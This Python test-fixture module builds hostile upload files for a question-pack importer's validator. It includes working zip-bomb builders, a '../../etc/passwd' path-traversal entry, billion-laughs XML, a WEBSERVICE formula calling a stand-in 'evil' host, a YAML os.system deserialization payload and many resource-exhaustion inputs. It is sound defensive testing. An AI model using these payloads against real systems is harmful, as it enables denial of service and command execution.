"""Files that somebody sends to do harm, or that no program should choke on."""

import io
import json
import struct
import zipfile
import zlib
from collections.abc import Callable

from questions.pack import table
from questions.pack.archive import packed
from questions.pack.json_file import to_json
from questions.pack.spreadsheet import to_csv, to_xlsx
from tests.questions.pack.contents import PACK

TABLE = table.rows(PACK)
HEADER = TABLE[0]
XLSX = to_xlsx(TABLE)
SPACE = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
SHEET = "xl/worksheets/sheet1.xml"
STRINGS = "xl/sharedStrings.xml"
ABOUT = b'slug = "deep"\ntitle = { ko = "Deep", en = "Deep" }\n'


def folder(**files: bytes) -> bytes:
    """Give a pack's folder as a ZIP; `pack` is its pack.toml, `cards` its only card file."""
    paths = {"pack": "pack.toml", "cards": "cards/01.toml"}
    return packed({paths[name]: data for name, data in {"pack": ABOUT, **files}.items()}, "deep")


def cards(*lines: str) -> bytes:
    """Give a ZIP whose only question has these lines of TOML besides its key, topic and prompt."""
    head = '[[questions]]\nkey = "relu"\ntopic = "act"\nprompt.en = "Why?"\n'
    return folder(cards=(head + "\n".join(lines) + "\n").encode())


def csv(**cells: str) -> bytes:
    """Give a CSV with one question that has these cells; `__` in a name is a dot."""
    named = {"key": "relu", "topic": "act", "prompt.en": "Why?"}
    named |= {name.replace("__", "."): cell for name, cell in cells.items()}
    return to_csv([list(named), list(named.values())])


def workbook(**parts: bytes) -> bytes:
    """Give the workbook of PACK with other parts; `sheet` is its first sheet."""
    paths = {"sheet": SHEET, "strings": STRINGS, "macros": "xl/vbaProject.bin"}
    changed = {paths[name]: data for name, data in parts.items()}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(XLSX)) as old, zipfile.ZipFile(out, "w", 8) as new:
        for entry in old.infolist():
            new.writestr(entry.filename, changed.pop(entry.filename, old.read(entry)))
        for path, data in changed.items():
            new.writestr(path, data)
    return out.getvalue()


def sheet(rows: str, before: str = "") -> bytes:
    """Give a workbook with these rows on its first sheet."""
    text = f'{before}<worksheet xmlns="{SPACE}"><sheetData>{rows}</sheetData></worksheet>'
    return workbook(sheet=text.encode())


def zip_bomb() -> bytes:
    """Sixteen files of 64 MiB each, that say they are a gigabyte."""
    zeros = _zeros()
    return _zip([(f"cards/{n:02}.toml", zeros, 1 << 30) for n in range(16)])


def lying_bomb() -> bytes:
    """64 MiB that say they are a kilobyte."""
    return _zip([("pack.toml", _zeros(), 1 << 10)])


def overlapping() -> bytes:
    """900 names for the same packed byte."""
    data = bytearray(_zip([(f"f{n:03}.toml", b"x", 1) for n in range(900)]))
    first = data.index(b"PK\x01\x02")
    at = first
    while data[at : at + 4] == b"PK\x01\x02":
        data[at + 42 : at + 46] = struct.pack("<I", 0)
        at += 46 + sum(struct.unpack("<HHH", data[at + 28 : at + 34]))
    return bytes(data)


def _zeros() -> bytes:
    """Pack 64 MiB of zeros."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = bytes(1 << 20)
    return b"".join(packer.compress(chunk) for _ in range(64)) + packer.flush()


def _zip(files: list[tuple[str, bytes, int]]) -> bytes:
    """Write deflated bytes as they are, each with the size that it claims to unpack to."""
    out, entries = io.BytesIO(), []
    for name, data, size in files:
        sizes = struct.pack("<III", 0, len(data), size)
        common = struct.pack("<HHHHH", 20, 0, 8, 0, 33) + sizes + struct.pack("<HH", len(name), 0)
        entries.append((name, common, out.tell()))
        out.write(b"PK\x03\x04" + common + name.encode() + data)
    start = out.tell()
    for name, common, offset in entries:
        rest = struct.pack("<HHHII", 0, 0, 0, 0, offset)
        out.write(b"PK\x01\x02" + struct.pack("<H", 20) + common + rest + name.encode())
    size = out.tell() - start
    out.write(b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, len(files), len(files), size, start, 0))
    return out.getvalue()


LAUGHS = (
    '<!DOCTYPE l [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]>"
)


def many_rows() -> bytes:
    """A million rows of an empty cell: 15 MB, which is under the limit."""
    return sheet("<row><c/></row>" * 1_000_000)


def many_fields() -> bytes:
    """Half a million fields that no pack has."""
    return json.dumps({"slug": "a", "title": {}, **{f"f{n}": 0 for n in range(500_000)}}).encode()


def far_cells() -> bytes:
    """Two cells that span the sheet."""
    return sheet('<row r="1"><c r="A1"><v>1</v></c><c r="XFD1048576"><v>1</v></c></row>')


def counted(count: str) -> bytes:
    """A workbook that says how many texts are in it."""
    return workbook(strings=f'<sst xmlns="{SPACE}" {count}></sst>'.encode())


def formula() -> bytes:
    """A cell that would fetch something."""
    return sheet('<row r="1"><c r="A1"><f>WEBSERVICE("http://evil")</f><v>1</v></c></row>')


def huge_number() -> bytes:
    """A number of a million digits."""
    return to_json(PACK).replace(b'"minutes": 4', b'"minutes": ' + b"9" * 1_000_000)


Make = Callable[[], bytes]

# What the file is: its name, its bytes, and the codes of what is wrong with it.
FILES: dict[str, tuple[str, Make, str]] = {
    "zip bomb": ("a.zip", zip_bomb, "too_large"),
    "zip bomb that lies": ("a.zip", lying_bomb, "not_zip"),
    "zip of overlapping entries": ("a.zip", overlapping, "archive_overlap"),
    "zip that climbs out": (
        "a.zip",
        lambda: packed({"../../etc/passwd": b"x"}, "a"),
        "archive_name",
    ),
    "zip in zips": ("a.zip", lambda: folder(pack=folder(pack=folder())), "not_utf8"),
    "zip that is cut off": ("a.zip", lambda: folder()[:-40], "not_zip"),
    "csv of a million rows": ("a.csv", lambda: b"key\r\n" + b"a\r\n" * 1_000_000, "table_rows"),
    "csv of a million columns": ("a.csv", lambda: b"," * 1_000_000, "table_columns"),
    "csv in cp949": ("a.csv", lambda: "key,prompt.ko\r\na,왜?".encode("cp949"), "not_utf8"),
    "csv with nul": ("a.csv", lambda: b"key,prompt.en\r\na,why\0", "nul"),
    "csv of a line too long": ("a.csv", lambda: b"a" * 16_000_001, "too_large"),
    "csv of one line": ("a.csv", lambda: b"key,prompt.en\r\na," + b"a" * (15 << 20), "not_csv"),
    "csv with a quote left open": ("a.csv", lambda: b'key\r\n"' + b"a\r\n" * 4_000_000, "not_csv"),
    "xlsx of a million rows": ("a.xlsx", many_rows, "table_rows"),
    "xlsx of two far cells": ("a.xlsx", far_cells, "table_rows"),
    "xlsx of texts without number": (
        "a.xlsx",
        lambda: counted('uniqueCount="99999999999"'),
        "not_xlsx",
    ),
    "xlsx of very many texts": ("a.xlsx", lambda: counted('count="+40000000"'), "not_xlsx"),
    "xlsx of billion laughs": ("a.xlsx", lambda: sheet("<row>&i;</row>", LAUGHS), "xml_entities"),
    "xlsx with a formula": ("a.xlsx", formula, "formula"),
    "xlsx with macros": ("a.xlsm", lambda: workbook(macros=b"\xd0\xcf\x11\xe0"), "macros"),
    "xlsx of deep xml": ("a.xlsx", lambda: sheet("<row>" * 1_000_000), "table_rows"),
    "xls": ("a.xls", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), "unknown_kind"),
    "yaml with tags": ("a.yaml", lambda: b"!!python/object/apply:os.system [id]", "unknown_kind"),
    "json nested deep": ("a.json", lambda: b"[" * 100_000, "not_json"),
    "json of deep cards": ("a.json", lambda: b'{"questions": [' + b'{"card":' * 99_999, "not_json"),
    "json of a huge number": ("a.json", huge_number, "not_json"),
    "json with half a character": ("a.json", lambda: b'{"slug": "\\ud800"}', "not_json"),
    "json of many fields": ("a.json", many_fields, "too_many_values"),
    "json of many mistakes": (
        "a.json",
        lambda: (
            b'{"slug": "a", "title": {}, "questions": [' + b'{"a":1,"b":2,"c":3},' * 4_999 + b"{}]}"
        ),
        "too_many_problems",
    ),
    "json of a string left open": ("a.json", lambda: b'"' + b'\\"' * 450_000, "not_json"),
    "json of strings left open": ("a.json", lambda: b'"\\' * 450_000, "not_json"),
    "json of backslashes": (
        "a.json",
        lambda: b'{"slug": "' + b"\\\\" * 7_900_000,
        "not_json",
    ),
    "json of empty questions": (
        "a.json",
        lambda: b'{"questions": [' + b"{}," * 249_000 + b"{}]}",
        "too_many_questions",
    ),
    "json of empty texts": (
        "a.json",
        lambda: b'{"questions": [' + b'"",' * 490_000 + b'""]}',
        "too_many_questions",
    ),
    "json of empty topics": (
        "a.json",
        lambda: b'{"topics": [' + b'{"a":1},' * 160_000 + b"{}]}",
        "too_many_values",
    ),
    "json of a question of mistakes": (
        "a.json",
        lambda: b'{"questions": [{"card": {"hints": [' + b'"",' * 490_000 + b'""]}}]}',
        "too_many_values",
    ),
    "json with nul": (
        "a.json",
        lambda: b'{"slug": "a", "title": {"en": "\\u0000"}}',
        "text_unkeepable",
    ),
    "json of hidden characters": (
        "a.json",
        lambda: to_json(PACK).replace(b'"slope"', '"\u202eslope"'.encode()),
        "control_character",
    ),
    "toml nested deep": ("a.zip", lambda: cards("x = " + "[" * 20_000), "toml"),
    "toml of dotted keys": ("a.zip", lambda: cards("x" + ".x" * 100_000 + " = 1"), "toml"),
    "toml of many dotted keys": (
        "a.zip",
        lambda: cards(*(f"x{n}" + ".x" * 9 + " = 1" for n in range(9_000))),
        "too_many_values",
    ),
    "toml of many tables": (
        "a.zip",
        lambda: cards(*(f"[questions.b{n}.c.d.e.f.g.h]" for n in range(25_000))),
        "too_many_values",
    ),
    "toml of many blocks": (
        "a.zip",
        lambda: cards(*["[[questions]]"] * 6_000),
        "too_many_questions",
    ),
    "toml of a string left open": ("a.zip", lambda: cards('a = "' + '\\"' * 450_000), "toml"),
    "toml of strings left open": ("a.zip", lambda: cards('"""' + '"\\' * 450_000), "toml"),
    "toml of a huge integer": ("a.zip", lambda: cards("minutes = " + "9" * 900_000), "toml"),
    "toml in cp949": ("a.zip", lambda: folder(cards="왜".encode("cp949")), "not_utf8"),
    "toml of one line": ("a.zip", lambda: folder(cards=b"#" * (15 << 20)), "file_too_large"),
    "yaml in a zip": (
        "a.zip",
        lambda: packed({"a/pack.yaml": b"!!x"}, "a"),
        "no_about unknown_file",
    ),
    "a source that backtracks": (
        "a.csv",
        lambda: csv(answer__en="x" * 17_000, sources__1="(2000" * 6_000),
        "cell_value text_too_long",
    ),
    "anchors of one word without end": (
        "a.csv",
        lambda: csv(**{f"anchors__{n}__en": "x" * n + "ab" * 8_000 for n in range(1, 5)}),
        "anchors_alike language_missing",
    ),
    "a figure of billion laughs": (
        "a.csv",
        lambda: csv(
            figure__file="figures/a.svg", figure__alt__en="a", figure__svg=LAUGHS + "<svg/>"
        ),
        "anchor_missing figure_doctype language_missing",
    ),
}
